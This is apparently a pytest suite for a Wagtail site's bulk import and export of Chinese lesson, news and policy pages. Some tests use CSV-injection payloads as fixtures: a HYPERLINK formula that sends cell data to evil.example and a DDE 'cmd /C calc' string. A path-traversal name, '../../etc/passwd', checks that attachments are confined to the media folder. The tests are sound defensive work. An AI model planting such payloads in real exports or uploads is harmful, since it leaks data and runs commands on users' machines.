"""Bulk import and export (contract 1): validate first, upsert by (type, id), round trip."""

import io
import json

import pytest
from django.core.management import call_command
from django.core.management.base import CommandError
from wagtail.models import Revision

from lessons.models import LessonPage
from news.models import NewsPage, PolicyPage
from tests.support.factories import make_policy

pytestmark = pytest.mark.django_db

LESSON = {
    "id": "T-1",
    "type": "lesson",
    "title": "莲藕高产栽培",
    "summary": "莲藕种植要点。",
    "body": "第一段。\n第二段。",
    "date": "2026-05-01",
    "region": "湖州",
    "tags": ["莲藕", "蔬菜"],
    "category": "实用技术培训",
    "duration_minutes": 25,
}
NEWS = {
    "id": "T-2",
    "type": "news",
    "title": "台州站点培训",
    "date": "2026-06-01",
    "region": "taizhou",
    "issuer": "台州市委组织部",
    "body": "培训两天。",
}
POLICY = {
    "id": "T-3",
    "type": "policy",
    "title": "关于课件征集的通知",
    "date": "2026-11-01",
    "doc_number": "浙测导〔２０２６〕１号",
    "issuer": "省远程教育办公室",
    "body": "全文。",
}


def write(tmp_path, rows, name="data.jsonl", encoding="utf-8"):
    path = tmp_path / name
    lines = [row if isinstance(row, str) else json.dumps(row, ensure_ascii=False) for row in rows]
    path.write_bytes("\n".join(lines).encode(encoding))
    return path


def run(path, *args):
    out, err = io.StringIO(), io.StringIO()
    call_command("import_content", str(path), *args, stdout=out, stderr=err)
    return out.getvalue(), err.getvalue()


def test_import_creates_pages_under_the_right_indexes(tmp_path):
    out, _ = run(write(tmp_path, [LESSON, NEWS, POLICY]))
    assert "新建 3" in out
    lesson = LessonPage.objects.get(locale__language_code="zh-hans", source_id="T-1")
    assert lesson.live and lesson.get_parent().slug == "shiyong-jishu"
    assert lesson.region.slug == "huzhou" and lesson.duration_minutes == 25
    assert sorted(t.name for t in lesson.tags.all()) == ["莲藕", "蔬菜"]
    news = NewsPage.objects.get(locale__language_code="zh-hans", source_id="T-2")
    assert news.get_parent().specific.region.slug == "taizhou"
    assert (
        PolicyPage.objects.get(locale__language_code="zh-hans", source_id="T-3").doc_number
        == "浙测导〔2026〕1号"
    )


def test_importing_twice_changes_nothing(tmp_path):
    path = write(tmp_path, [LESSON, NEWS, POLICY])
    run(path)
    revisions = Revision.objects.count()
    out, _ = run(path)
    assert "没有变化" in out and "未变 3" in out
    assert Revision.objects.count() == revisions


def test_a_changed_line_makes_a_new_revision_not_a_duplicate(tmp_path):
    run(write(tmp_path, [LESSON]))
    page = LessonPage.objects.get(locale__language_code="zh-hans", source_id="T-1")
    before = page.revisions.count()
    out, _ = run(write(tmp_path, [{**LESSON, "summary": "新的摘要。"}]))
    assert "更新 1" in out
    assert LessonPage.objects.filter(locale__language_code="zh-hans", source_id="T-1").count() == 1
    page.refresh_from_db()
    assert page.summary == "新的摘要。" and page.revisions.count() == before + 1


def test_every_bad_line_is_named_and_nothing_is_imported(tmp_path):
    rows = [
        LESSON,
        "{not json",
        {**LESSON, "id": "T-9", "title": ""},
        {**LESSON, "id": "T-10", "category": "种地"},
        {**LESSON, "id": "T-11", "date": "2026-13-45"},
        {**NEWS, "id": "T-12", "type": "video"},
        {**POLICY, "id": "T-13", "doc_number": "浙测导[2026]1号"},
    ]
    with pytest.raises(CommandError):
        run(write(tmp_path, rows))
    assert not LessonPage.objects.filter(locale__language_code="zh-hans", source_id="T-1").exists()


def test_error_messages_name_lines_and_reasons(tmp_path):
    rows = [LESSON, "{not json", {**LESSON, "id": "T-9", "title": ""}]
    err = io.StringIO()
    with pytest.raises(CommandError):
        call_command("import_content", str(write(tmp_path, rows)), stdout=io.StringIO(), stderr=err)
    text = err.getvalue()
    assert "第 2 行" in text and "JSON" in text
    assert "第 3 行" in text and "标题" in text


def test_skip_invalid_imports_the_rest_and_writes_a_report(tmp_path):
    path = write(tmp_path, [LESSON, {**NEWS, "region": "火星"}])
    out, _ = run(path, "--skip-invalid")
    assert "新建 1" in out
    report = (tmp_path / "data.jsonl.skipped.jsonl").read_text(encoding="utf-8")
    assert json.loads(report)["line"] == 2 and "火星" in report


def test_duplicate_doc_number_against_the_site(tmp_path):
    existing = make_policy("文号已在网站上的文件", doc_number="浙测重〔2026〕3号")
    with pytest.raises(CommandError):
        run(write(tmp_path, [{**POLICY, "doc_number": existing.doc_number}]))


def test_gb18030_csv(tmp_path):
    text = (
        "id,type,title,summary,body,date,region,tags,category,duration_minutes\n"
        "C-1,lesson,菱角种植,摘要,正文,2026-07-01,嘉兴,菱角；水生蔬菜,实用技术培训,15\n"
    )
    path = tmp_path / "data.csv"
    path.write_bytes(text.encode("gb18030"))
    out, _ = run(path)
    assert "gb18030" in out and "新建 1" in out
    page = LessonPage.objects.get(locale__language_code="zh-hans", source_id="C-1")
    assert sorted(t.name for t in page.tags.all()) == ["水生蔬菜", "菱角"]


def test_media_files_from_media_dir(tmp_path):
    media = tmp_path / "media"
    media.mkdir()
    (media / "handout.pdf").write_bytes(b"%PDF-1.4 handout")
    row = {**LESSON, "id": "M-1", "attachments": ["handout.pdf"]}
    run(write(tmp_path, [row]), "--media-dir", str(media))
    page = LessonPage.objects.get(locale__language_code="zh-hans", source_id="M-1")
    assert [d["document"].file_size for d in page.downloads] == [16]
    with pytest.raises(CommandError):
        run(write(tmp_path, [{**row, "id": "M-2", "attachments": ["missing.pdf"]}]),
            "--media-dir", str(media))  # fmt: skip
    with pytest.raises(CommandError):
        run(write(tmp_path, [{**row, "id": "M-3", "attachments": ["../../etc/passwd"]}]),
            "--media-dir", str(media))  # fmt: skip


def test_a_lessons_video_and_audio_play_in_its_page(tmp_path, client):
    """The library's courseware is video and audio: imported, they play in the lesson (the
    browser's player, with the cover as the video's poster), other files stay downloads."""
    media = tmp_path / "media"
    media.mkdir()
    for name in ("lesson.mp4", "talk.mp3", "handout.pdf"):
        (media / name).write_bytes(b"bytes of " + name.encode())
    (media / "cover.png").write_bytes(_png())
    row = {**LESSON, "id": "V-1", "image": "cover.png",
           "attachments": ["lesson.mp4", "talk.mp3", "handout.pdf"]}  # fmt: skip
    path = write(tmp_path, [row, {**NEWS, "attachments": ["lesson.mp4"]}])
    run(path, "--media-dir", str(media))
    page = LessonPage.objects.get(locale__language_code="zh-hans", source_id="V-1")
    assert [block.block_type for block in page.body] == [
        "paragraph",
        "video",
        "audio",
        "attachment",
    ]
    assert page.body[1].value["poster"] == page.cover
    assert len(page.downloads) == 3  # the media are downloads too, with their size
    html = client.get(page.url).content.decode()
    assert '<source src="/documents/' in html and 'type="video/mp4"' in html
    assert "<audio controls" in html and 'type="audio/mpeg"' in html
    news = NewsPage.objects.get(locale__language_code="zh-hans", source_id="T-2")
    assert [block.block_type for block in news.body][-1] == "attachment"
    out, _ = run(path, "--media-dir", str(media))
    assert "未变 2" in out  # a second import sees the same pages


def _png():
    from PIL import Image

    buffer = io.BytesIO()
    Image.new("RGB", (32, 18), (46, 125, 50)).save(buffer, "PNG")
    return buffer.getvalue()


def test_draft_import_does_not_publish(tmp_path):
    run(write(tmp_path, [LESSON]), "--draft")
    page = LessonPage.objects.get(locale__language_code="zh-hans", source_id="T-1")
    assert not page.live


def test_export_then_import_into_an_empty_site_reproduces_it(tmp_path):
    out = io.StringIO()
    call_command("export_content", stdout=out)
    exported = [json.loads(line) for line in out.getvalue().splitlines()]
    before = {(r["type"], r["title"], r["date"], r.get("doc_number", "")) for r in exported}
    for model in (LessonPage, NewsPage, PolicyPage):
        for page in model.objects.filter(locale__language_code="zh-hans"):
            page.delete()
    path = tmp_path / "export.jsonl"
    path.write_text(out.getvalue(), encoding="utf-8")
    run(path)
    again = io.StringIO()
    call_command("export_content", stdout=again)
    reimported = [json.loads(line) for line in again.getvalue().splitlines()]
    after = {(r["type"], r["title"], r["date"], r.get("doc_number", "")) for r in reimported}
    assert after == before
    by_id = {r["id"]: r for r in reimported}
    for row in exported:
        twin = by_id[row["id"]]
        for key in ("summary", "body", "tags", "region", "category", "duration_minutes"):
            assert twin.get(key) == row.get(key), (row["id"], key)


FORMULAS = {
    **LESSON,
    "id": "F-1",
    "title": '=HYPERLINK("http://evil.example/?x="&A1,"点击查看")',
    "summary": "@SUM(1+1)",
    "body": "=1+2\n-第二段",
    "tags": ["+标签", "'引号开头"],
    "producer": "+86 0571 1234",
    "audience": "-cmd|' /C calc'!A0",
}


def test_csv_export_neutralises_formulas_and_the_import_reads_them_back(tmp_path):
    """A cell a spreadsheet would run (leading =, +, -, @, tab, CR) is written as text with
    a leading apostrophe; importing the export gives back the very same values."""
    import csv

    run(write(tmp_path, [FORMULAS]))
    path = tmp_path / "export.csv"
    call_command("export_content", "--format", "csv", "--type", "lesson", "--output", str(path))
    with path.open(encoding="utf-8", newline="") as handle:
        rows = list(csv.DictReader(handle))
    row = next(row for row in rows if row["id"] == "F-1")
    for key in ("title", "summary", "body", "tags", "producer", "audience"):
        assert row[key].startswith("'"), key
    for cell in (cell for each in rows for cell in each.values()):
        assert not cell.startswith(("=", "+", "-", "@", "\t", "\r")), cell

    LessonPage.objects.get(locale__language_code="zh-hans", source_id="F-1").delete()
    run(path)
    page = LessonPage.objects.get(locale__language_code="zh-hans", source_id="F-1")
    assert (page.title, page.summary) == (FORMULAS["title"], FORMULAS["summary"])
    assert (page.producer, page.audience) == (FORMULAS["producer"], FORMULAS["audience"])
    assert sorted(tag.name for tag in page.tags.all()) == sorted(FORMULAS["tags"])
    again = tmp_path / "again.jsonl"
    call_command("export_content", "--type", "lesson", "--output", str(again))
    lines = again.read_text(encoding="utf-8").splitlines()
    twin = next(r for r in map(json.loads, lines) if r["id"] == "F-1")
    assert twin["body"] == FORMULAS["body"]


def test_the_policy_library_csv_neutralises_formulas(client, admin_user):
    import csv

    doc = make_policy("公式测试文件", doc_number="浙测式〔2026〕4号")
    doc.title = '=HYPERLINK("http://evil.example")'
    doc.issuer = "@发文机关"
    doc.save_revision().publish()
    client.force_login(admin_user)
    text = client.get("/admin/policies/export.csv").content.decode("utf-8-sig")
    rows = list(csv.reader(io.StringIO(text)))
    assert ["'" + doc.title, doc.doc_number] == rows[[r[1] for r in rows].index(doc.doc_number)][:2]
    assert "'@发文机关" in [row[3] for row in rows]
    for cell in (cell for row in rows for cell in row):
        assert not cell.startswith(("=", "+", "-", "@", "\t", "\r")), cell


def test_imported_pages_are_searchable(tmp_path):
    from wagtail.models import Locale

    from search import service

    run(write(tmp_path, [LESSON]))
    outcome = service.search("莲藕", Locale.objects.get(language_code="zh-hans"))
    assert "莲藕高产栽培" in [hit.page.title for hit in outcome.hits]


def test_admin_csv_export_of_the_policy_library(client, admin_user):
    make_policy("导出测试文件一", doc_number="浙测出〔2026〕5号")
    make_policy("导出测试文件二", doc_number="浙测出〔2026〕6号", status="repealed")
    assert client.get("/admin/policies/export.csv").status_code == 302  # login first
    client.force_login(admin_user)
    response = client.get("/admin/policies/export.csv")
    assert response.status_code == 200 and response["Content-Type"].startswith("text/csv")
    text = response.content.decode("utf-8-sig")
    assert text.splitlines()[0].startswith("标题,文号,类型")
    for doc in PolicyPage.objects.filter(locale__language_code="zh-hans").exclude(doc_number=""):
        assert doc.doc_number in text


def _upload(client, content, name="data.jsonl", **options):
    from django.core.files.uploadedfile import SimpleUploadedFile

    data = {"file": SimpleUploadedFile(name, content)}
    data.update({key: "on" for key, value in options.items() if value})
    return client.post("/admin/import/", data, follow=True)


def test_admin_import_previews_confirms_and_reports(client, admin_user):
    client.force_login(admin_user)
    existing = {**LESSON, "id": "A-0", "title": "已存在的课"}
    first = _upload(client, json.dumps(existing, ensure_ascii=False).encode())
    client.post(first.redirect_chain[-1][0] + "confirm/")
    assert LessonPage.objects.filter(locale__language_code="zh-hans", source_id="A-0").exists()
    content = "\n".join(json.dumps(r, ensure_ascii=False) for r in [LESSON, NEWS, existing])
    page = _upload(client, content.encode("gb18030"))
    html = page.content.decode()
    assert "将新建 2 条" in html and "不会改动" in html and "GB18030" in html
    assert not LessonPage.objects.filter(
        locale__language_code="zh-hans", source_id="T-1"
    ).exists()  # nothing before confirming
    confirm = page.redirect_chain[-1][0] + "confirm/"
    done = client.post(confirm, follow=True).content.decode()
    assert "导入完成：新建 2" in done
    assert LessonPage.objects.get(locale__language_code="zh-hans", source_id="T-1").live


def test_admin_import_names_bad_lines_and_imports_nothing(client, admin_user):
    client.force_login(admin_user)
    content = json.dumps(LESSON, ensure_ascii=False) + "\n{broken\n"
    page = _upload(client, content.encode())
    html = page.content.decode()
    assert "第 2 行" in html and "JSON" in html and "确认导入" not in html
    assert client.post(page.redirect_chain[-1][0] + "confirm/").status_code == 302
    assert not LessonPage.objects.filter(locale__language_code="zh-hans", source_id="T-1").exists()


def test_admin_import_refuses_other_files_and_anonymous_users(client, admin_user):
    assert client.get("/admin/import/").status_code == 302
    client.force_login(admin_user)
    page = _upload(client, b"\x89PNG...", name="picture.png")
    assert "请上传 .jsonl 或 .csv 文件" in page.content.decode()


def test_imported_pages_join_the_synchronised_english_tree(tmp_path):
    run(write(tmp_path, [LESSON]))
    page = LessonPage.objects.get(locale__language_code="zh-hans", source_id="T-1")
    alias = page.get_translation_or_none(
        __import__("wagtail.models", fromlist=["Locale"]).Locale.objects.get(language_code="en")
    )
    assert alias is not None and alias.alias_of_id == page.pk


def _tree_problems():
    from wagtail.models import Page

    return [problem for problem in Page.find_problems() if problem]


def test_a_bulk_imported_page_is_published_as_in_the_admin(tmp_path):
    from wagtail.models import PageLogEntry

    run(write(tmp_path, [LESSON]))
    page = LessonPage.objects.get(locale__language_code="zh-hans", source_id="T-1")
    revision = page.revisions.get()
    assert page.live and not page.has_unpublished_changes
    assert page.latest_revision_id == page.live_revision_id == revision.pk
    assert page.first_published_at and page.last_published_at
    assert revision.as_object().title == "莲藕高产栽培"
    assert sorted(t.name for t in revision.as_object().tags.all()) == ["莲藕", "蔬菜"]
    assert page.url_path == page.get_parent().url_path + page.slug + "/"
    actions = list(
        PageLogEntry.objects.filter(page=page).order_by("pk").values_list("action", flat=True)
    )
    assert actions == ["wagtail.create", "wagtail.edit", "wagtail.publish"]
    assert _tree_problems() == []


def test_the_english_alias_of_an_imported_page_is_complete(tmp_path):
    from wagtail.models import Locale, PageLogEntry

    run(write(tmp_path, [LESSON]))
    page = LessonPage.objects.get(locale__language_code="zh-hans", source_id="T-1")
    english = Locale.objects.get(language_code="en")
    alias = LessonPage.objects.get(alias_of=page)
    assert alias.locale == english and alias.live and alias.translation_key == page.translation_key
    assert alias.get_parent().pk == page.get_parent().get_translation(english).pk
    from pioneer.content_io.importer import _signature

    assert alias.title == page.title and _signature(alias.body) == _signature(page.body)
    assert sorted(t.name for t in alias.tags.all()) == ["莲藕", "蔬菜"]
    assert alias.latest_revision_id is None and not alias.revisions.exists()
    assert set(PageLogEntry.objects.filter(page=alias).values_list("action", flat=True)) == {
        "wagtail.create",
        "wagtail.create_alias",
    }


def test_a_changed_line_updates_the_alias_and_the_search_index(tmp_path):
    from wagtail.models import Locale

    from search import service

    run(write(tmp_path, [LESSON]))
    run(write(tmp_path, [{**LESSON, "title": "茭白高产栽培"}]))
    page = LessonPage.objects.get(locale__language_code="zh-hans", source_id="T-1")
    assert page.title == "茭白高产栽培" and page.revisions.count() == 2
    assert LessonPage.objects.get(alias_of=page).title == "茭白高产栽培"
    outcome = service.search("茭白", Locale.objects.get(language_code="zh-hans"))
    assert "茭白高产栽培" in [hit.page.title for hit in outcome.hits]


def test_imported_pages_record_their_references_as_wagtail_would(tmp_path):
    from wagtail.models import ReferenceIndex

    media = tmp_path / "media"
    media.mkdir()
    (media / "handout.pdf").write_bytes(b"%PDF-1.4 handout")
    row = {**LESSON, "id": "R-1", "attachments": ["handout.pdf"]}
    run(write(tmp_path, [row]), "--media-dir", str(media))
    page = LessonPage.objects.get(locale__language_code="zh-hans", source_id="R-1")
    alias = LessonPage.objects.get(alias_of=page)
    document = page.downloads[0]["document"]
    assert {page.pk, alias.pk} <= {
        int(r.object_id) for r in ReferenceIndex.get_references_to(document)
    }

    def rows():
        return set(
            ReferenceIndex.objects.filter(object_id__in=[str(page.pk), str(alias.pk)]).values_list(
                "content_type", "object_id", "to_content_type", "to_object_id", "content_path"
            )
        )

    imported = rows()
    assert any(r[4].startswith("tagged_items.") for r in imported)  # tags too
    for obj in (page, alias):
        ReferenceIndex.create_or_update_for_object(obj)  # what Wagtail itself would record
    assert rows() == imported


def test_ids_that_differ_only_in_case_get_their_own_pages(tmp_path):
    out, _ = run(write(tmp_path, [{**LESSON, "id": "Case-1"}, {**LESSON, "id": "case-1"}]))
    assert "新建 2" in out
    pages = LessonPage.objects.filter(
        locale__language_code="zh-hans", source_id__in=["Case-1", "case-1"]
    )
    assert len({page.slug for page in pages}) == 2
    assert _tree_problems() == []


def test_an_interrupted_import_leaves_no_half_written_page_and_a_rerun_continues(
    tmp_path, monkeypatch
):
    from wagtail.models import PageLogEntry
    from wagtail.signals import page_published

    from pioneer.content_io import importer

    monkeypatch.setattr(importer, "BATCH", 2)
    rows = [{**LESSON, "id": f"I-{n}", "title": f"中断测试第{n}课"} for n in range(5)]
    path = write(tmp_path, rows)

    def fail(sender, instance, **kwargs):  # a receiver failing halfway through batch 2
        if instance.title == "中断测试第3课":
            raise RuntimeError("power cut")

    page_published.connect(fail, weak=False, dispatch_uid="test-interrupt")
    try:
        with pytest.raises(RuntimeError):
            run(path)
    finally:
        page_published.disconnect(dispatch_uid="test-interrupt")
    imported = LessonPage.objects.filter(source_id__startswith="I-")
    chinese = imported.filter(locale__language_code="zh-hans")
    assert sorted(chinese.values_list("source_id", flat=True)) == ["I-0", "I-1"]
    assert not LessonPage.objects.filter(title__in=["中断测试第2课", "中断测试第3课"]).exists()
    assert not PageLogEntry.objects.filter(label="中断测试第2课").exists()
    assert _tree_problems() == []
    out, _ = run(path)
    assert "新建 3" in out and "未变 2" in out
    assert imported.filter(locale__language_code="zh-hans").count() == 5
    assert imported.filter(locale__language_code="en").count() == 5
    assert _tree_problems() == []


def test_draft_import_makes_an_unpublished_revision(tmp_path):
    run(write(tmp_path, [LESSON]), "--draft")
    page = LessonPage.objects.get(locale__language_code="zh-hans", source_id="T-1")
    assert not page.live and page.has_unpublished_changes and page.live_revision_id is None
    assert page.latest_revision_id == page.revisions.get().pk
    assert not LessonPage.objects.get(alias_of=page).live


def test_a_batch_purges_each_index_and_feed_once(tmp_path, settings):
    """With a front cache, every imported page is purged (``page_published``), and the
    indexes and feeds they all appear on once per batch, not once a page."""
    import threading
    from http.server import BaseHTTPRequestHandler, ThreadingHTTPServer
    from urllib.parse import urlsplit

    purged = []

    class Cache(BaseHTTPRequestHandler):
        def do_PURGE(self):  # noqa: N802 - the HTTP method's name
            purged.append(self.path)
            self.send_response(200)
            self.end_headers()

        def log_message(self, *args):
            pass

    server = ThreadingHTTPServer(("127.0.0.1", 0), Cache)
    threading.Thread(target=server.serve_forever, daemon=True).start()
    settings.WAGTAILFRONTENDCACHE = {
        "nginx": {
            "BACKEND": "pioneer.caching.front_cache.NginxPurgeBackend",
            "LOCATION": f"http://127.0.0.1:{server.server_address[1]}",
        }
    }
    try:
        run(write(tmp_path, [{**LESSON, "id": f"P-{i}"} for i in range(3)]))
    finally:
        server.shutdown()
        server.server_close()
    pages = LessonPage.objects.filter(locale__language_code="zh-hans", source_id__startswith="P-")
    assert len(pages) == 3
    for page in pages:
        assert purged.count(urlsplit(page.full_url).path) == 1
    index = urlsplit(pages[0].get_parent().full_url).path
    assert purged.count(index) == 1
    assert purged.count("/feeds/zh-hans/lessons/rss.xml") == 1


def test_a_file_with_a_bom_and_windows_line_ends_is_read_line_by_line(tmp_path):
    rows = [LESSON, {**LESSON, "id": "T-8", "title": ""}, NEWS]
    text = "\r\n".join(json.dumps(row, ensure_ascii=False) for row in rows) + "\r\n\r\n"
    path = tmp_path / "windows.jsonl"
    path.write_bytes(b"\xef\xbb\xbf" + text.encode("utf-8"))
    out, err = run(path, "--skip-invalid")
    assert "3 条，1 条有错误" in out and "第 2 行" in err
    assert "新建 2" in out and "跳过 1" in out
    lesson = LessonPage.objects.get(locale__language_code="zh-hans", source_id="T-1")
    assert lesson.title == LESSON["title"]


def _plan_queries(count):
    from django.db import connection
    from django.test.utils import CaptureQueriesContext

    from pioneer.content_io.importer import Importer
    from pioneer.content_io.records import iter_records

    lines = [
        json.dumps({**LESSON, "id": f"P-{n}", "title": f"预览测试课{n}"}, ensure_ascii=False) + "\n"
        for n in range(count)
    ]
    importer = Importer()
    importer.validate(iter_records(iter(lines), "plan.jsonl"))
    with CaptureQueriesContext(connection) as queries:
        plan = importer.plan(importer.valid(iter_records(iter(lines), "plan.jsonl")))
    assert plan["create"] == count
    return len(queries)


def test_the_preview_looks_pages_up_a_batch_at_a_time():
    """The admin's preview of an upload (in the upload's request): the queries do not
    grow with the number of new records."""
    assert _plan_queries(40) == _plan_queries(4)
